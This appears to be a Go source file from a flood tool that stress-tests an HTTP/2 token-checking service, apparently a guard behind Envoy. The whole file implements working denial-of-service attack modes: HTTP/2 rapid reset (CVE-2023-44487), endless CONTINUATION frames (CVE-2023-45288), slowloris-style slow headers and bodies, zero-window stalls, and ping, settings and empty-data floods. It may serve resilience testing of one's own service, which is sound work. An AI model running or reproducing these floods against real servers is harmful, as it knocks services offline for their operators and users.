package main

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"strings"

	"golang.org/x/net/http2"
)

// kind is what a connection of a flood does until it ends; with the settings that
// it announces.
type kind struct {
	settings []http2.Setting
	run      func(ctx context.Context, a *attack, p *peer) error
}

var kinds = map[string]kind{
	"checks":        {generous, checks},
	"large-headers": {generous, largeHeaders},
	"large-bodies":  {generous, largeBodies},
	"slow-headers":  {nil, slowHeaders},
	"slow-streams":  {generous, slowStreams},
	"slow-bodies":   {generous, slowBodies},
	"half-open":     {nil, halfOpen},
	"idle":          {nil, idle},
	"churn":         {nil, churn},
	"resets":        {nil, resets},
	"pings":         {nil, repeated(func(p *peer, _ uint32) error { return p.out.WritePing(false, [8]byte{}) })},
	"settings":      {nil, repeated(func(p *peer, _ uint32) error { return p.out.WriteSettings() })},
	"empty-data":    {nil, repeated(func(p *peer, id uint32) error { return p.out.WriteData(id, false, nil) })},
	"continuation":  {nil, continuation},
	"no-window":     {[]http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, noWindow},
	"unread":        {generous, unread},
}

// asking opens streams, so many at once. One that the other side ends is replaced.
func asking(ctx context.Context, a *attack, p *peer, open func() error) error {
	room := make(chan struct{}, a.streams)
	go p.listen(func(uint32) { a.answers.Add(1); <-room })
	for {
		if err := a.unit(ctx); err != nil {
			return err
		}
		select {
		case room <- struct{}{}:
		case <-ctx.Done():
			return ctx.Err()
		}
		if err := p.locked(open); err != nil {
			return err
		}
	}
}

// checks asks about tokens.
func checks(ctx context.Context, a *attack, p *peer) error {
	block := call()
	return asking(ctx, a, p, func() error {
		i := a.next()
		if a.envoy {
			_, err := p.open(headers(":method", "GET", ":scheme", "http", ":path", "/", ":authority", "example.com",
				"authorization", "Bearer "+a.tokens[i]), true)
			return err
		}
		return p.ask(block, a.messages[i])
	})
}

// largeHeaders sends checks with as much metadata as is allowed.
func largeHeaders(ctx context.Context, a *attack, p *peer) error {
	block := call("x-large-1", strings.Repeat("a", 60<<10), "x-large-2", strings.Repeat("b", 60<<10))
	return asking(ctx, a, p, func() error { return p.ask(block, a.messages[0]) })
}

// slowStreams begins checks that never go on.
func slowStreams(ctx context.Context, a *attack, p *peer) error {
	block := call()
	return asking(ctx, a, p, func() error {
		id, err := p.open(block, false)
		if err != nil {
			return err
		}
		return p.out.WriteData(id, false, a.messages[0][:1])
	})
}

// slowHeaders begins a stream's headers and adds a byte to them now and then.
func slowHeaders(ctx context.Context, a *attack, p *peer) error {
	block := call("x-slow", strings.Repeat("a", 64<<10))
	err := p.locked(func() error {
		p.last += 2
		return p.out.WriteHeaders(http2.HeadersFrameParam{StreamID: p.last, BlockFragment: block[:frameSize]})
	})
	if err != nil {
		return err
	}
	for _, b := range block[frameSize:] {
		if err := a.unit(ctx); err != nil {
			return err
		}
		if err := p.locked(func() error { return p.out.WriteContinuation(p.last, false, []byte{b}) }); err != nil {
			return err
		}
	}
	return nil
}

// bodySize is close to the largest message that a guard reads.
const bodySize = 15 << 20

// largeBodies sends checks with large bodies, whole ones.
func largeBodies(ctx context.Context, a *attack, p *peer) error {
	m, err := checkOf(a.tokens[0], bodySize)
	if err != nil {
		return err
	}
	return bodies(ctx, a, p, m, true)
}

// slowBodies sends checks with large bodies, of which the last byte is missing.
func slowBodies(ctx context.Context, a *attack, p *peer) error {
	m := make([]byte, bodySize)
	binary.BigEndian.PutUint32(m[1:], bodySize)
	return bodies(ctx, a, p, m[:bodySize-1], false)
}

// bodies sends a message on each stream, as far as it may.
func bodies(ctx context.Context, a *attack, p *peer, m []byte, end bool) error {
	block := call()
	done := make(chan uint32, a.streams)
	go p.listen(func(id uint32) { a.answers.Add(1); done <- id })
	sent := map[uint32]int{}
	for {
		for len(sent) < a.streams {
			if err := a.unit(ctx); err != nil {
				return err
			}
			err := p.locked(func() error {
				id, err := p.open(block, false)
				sent[id], p.window[id] = 0, firstWindow
				return err
			})
			if err != nil {
				return err
			}
		}
		select {
		case id := <-done:
			delete(sent, id)
			continue
		default:
		}
		if err := p.more(sent, m, end); err != nil {
			return err
		}
	}
}

// more sends a frame on each stream that may, and waits if none may.
func (p *peer) more(sent map[uint32]int, m []byte, end bool) error {
	p.mu.Lock()
	defer p.mu.Unlock()
	progress := false
	for id, n := range sent {
		size := min(frameSize, len(m)-n, p.window[id], p.window[0])
		if p.dead {
			return net.ErrClosed
		}
		if size <= 0 {
			continue
		}
		if err := p.out.WriteData(id, end && n+size == len(m), m[n:n+size]); err != nil {
			return err
		}
		sent[id], p.window[id], p.window[0], progress = n+size, p.window[id]-size, p.window[0]-size, true
	}
	if err := p.buffer.Flush(); err != nil {
		return err
	}
	if !progress {
		p.changed.Wait()
	}
	return nil
}

// halfOpen connects and says nothing, not even the preface.
func halfOpen(ctx context.Context, a *attack, p *peer) error {
	if err := a.unit(ctx); err != nil {
		return err
	}
	_, err := io.Copy(io.Discard, p)
	return err
}

// idle says the preface and nothing more.
func idle(ctx context.Context, a *attack, p *peer) error {
	if err := a.unit(ctx); err != nil {
		return err
	}
	if err := p.locked(func() error { return nil }); err != nil {
		return err
	}
	p.listen(nil)
	return nil
}

// churn asks once.
func churn(ctx context.Context, a *attack, p *peer) error {
	if err := a.unit(ctx); err != nil {
		return err
	}
	if err := p.locked(func() error { return p.ask(call(), a.messages[a.next()]) }); err != nil {
		return err
	}
	p.listen(func(uint32) { a.answers.Add(1); p.Close() })
	return nil
}

// resets asks and takes it back at once (CVE-2023-44487).
func resets(ctx context.Context, a *attack, p *peer) error {
	block := call()
	go p.listen(func(uint32) { a.answers.Add(1) })
	for {
		if err := a.unit(ctx); err != nil {
			return err
		}
		err := p.locked(func() error {
			if err := p.ask(block, a.messages[a.next()]); err != nil {
				return err
			}
			return p.out.WriteRSTStream(p.last, http2.ErrCodeCancel)
		})
		if err != nil {
			return err
		}
	}
}

// repeated sends the same frame over and over, on an open stream, and reads
// nothing.
func repeated(frame func(p *peer, id uint32) error) func(context.Context, *attack, *peer) error {
	return func(ctx context.Context, a *attack, p *peer) error {
		id, err := p.open(call(), false)
		for ; err == nil; err = p.locked(func() error { return frame(p, id) }) {
			if err := a.unit(ctx); err != nil {
				return err
			}
		}
		return err
	}
}

// continuation sends headers that never end (CVE-2023-45288).
func continuation(ctx context.Context, a *attack, p *peer) error {
	part := headers("x-a", strings.Repeat("a", 1<<10))
	p.last += 2
	err := p.out.WriteHeaders(http2.HeadersFrameParam{StreamID: p.last, BlockFragment: part})
	for ; err == nil; err = p.locked(func() error { return p.out.WriteContinuation(p.last, false, part) }) {
		if err := a.unit(ctx); err != nil {
			return err
		}
	}
	return err
}

// noWindow asks, and grants no byte for the answers.
func noWindow(ctx context.Context, a *attack, p *peer) error {
	block := call("x-large", strings.Repeat("a", 2<<10))
	go p.listen(func(uint32) { a.answers.Add(1) })
	for range a.streams {
		if err := a.unit(ctx); err != nil {
			return err
		}
		if err := p.locked(func() error { return p.ask(block, a.messages[a.next()]) }); err != nil {
			return err
		}
	}
	<-ctx.Done()
	return ctx.Err()
}

// unread asks and never reads.
func unread(ctx context.Context, a *attack, p *peer) error {
	block := call()
	for {
		if err := a.unit(ctx); err != nil {
			return err
		}
		if err := p.locked(func() error { return p.ask(block, a.messages[a.next()]) }); err != nil {
			return err
		}
	}
}
